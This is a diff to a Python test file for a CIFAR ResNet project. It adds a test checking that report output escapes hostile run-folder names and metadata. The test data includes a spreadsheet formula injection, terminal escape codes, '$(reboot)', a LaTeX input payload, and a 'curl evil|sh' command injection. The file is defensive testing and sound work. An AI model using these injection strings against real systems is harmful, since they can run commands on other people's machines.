@@ -1,5 +1,6 @@
 """Run folders that can't be believed: every entry point refuses them in one line, or leaves them out with a reason."""
 
+import csv
 import json
 import os
 import shutil
@@ -10,6 +11,8 @@ import yaml
 
 from cifar_resnet import evaluate, load_run
 from cifar_resnet.errors import RunError
+from cifar_resnet.printable import UNPRINTABLE
+from cifar_resnet.report import command
 from cifar_resnet.report.runs import load
 from cifar_resnet.run.folder import RunDir, State, find_runs
 from cifar_resnet.status.__main__ import read
@@ -208,3 +211,38 @@ def test_folders_that_are_linked_are_found_once_and_loops_are_tolerated(tmp_path
     assert find_runs([outputs]) == [RunDir(outputs / "a")]
     assert RunDir(outputs / "a").verified_state() is State.FINISHED
     assert len(load.load([outputs]).finished) == 1
+
+
+TEXTS = (".md", ".tex", ".csv", ".html")
+HOSTILE = "=cmd|'calc'!A1 \x1b[31m[bold] \u202e"
+
+
+@pytest.fixture
+def report(run, tmp_path, monkeypatch):
+    """The files of a report on a run whose folder has a hostile name, with the command's output."""
+    edit(run, "", "out", "outputs; curl evil|sh #")
+    run.path.rename(run.path.parent / HOSTILE)
+    record(RunDir(run.path.parent / HOSTILE), commit="$(reboot)", device="```math\n\\input{x}\n```")
+    shutil.copytree(OLD[1].path, run.path.parent / "[red]unreadable\x1b[0m")
+    (run.path.parent / "[red]unreadable\x1b[0m/config.yaml").write_text('a: "\x1b]0;title\x07\n')
+    arguments = [".", "--out", str(tmp_path / "report")]
+    monkeypatch.chdir(run.path.parent)
+    done = called(lambda: sys.exit(command.main(arguments)))
+    assert done.returncode == 0, done.stderr
+    return done, {
+        name: (tmp_path / "report" / name).read_text() for name in tree(tmp_path / "report") if name.endswith(TEXTS)
+    }
+
+
+def test_hostile_names_reach_no_terminal_no_spreadsheet_and_no_page(report):
+    done, files = report
+    for text in (done.stdout, done.stderr, *files.values()):
+        assert not UNPRINTABLE.search(text.replace("\n", ""))
+    for name, text in files.items():
+        if name.endswith(".csv"):
+            cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
+            assert not [cell for cell in cells if cell.startswith(("=", "+c", "@"))], name
+    assert any("'=cmd|" in text for name, text in files.items() if name.endswith(".csv"))
+    assert "\npython aggregate.py 'outputs; curl evil|sh #'\n" in files["report.md"]
+    assert "\\input{x}" not in files["report.tex"]
+    assert "[bold]" in files["report.html"]
